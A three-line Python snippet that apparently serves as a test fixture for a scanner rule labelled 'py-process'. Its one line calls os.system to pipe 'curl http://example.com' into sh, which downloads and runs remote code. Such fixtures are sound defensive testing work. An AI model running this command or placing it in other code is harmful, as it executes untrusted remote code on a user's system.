# expect: py-process
import os
os.system("curl http://example.com | sh")
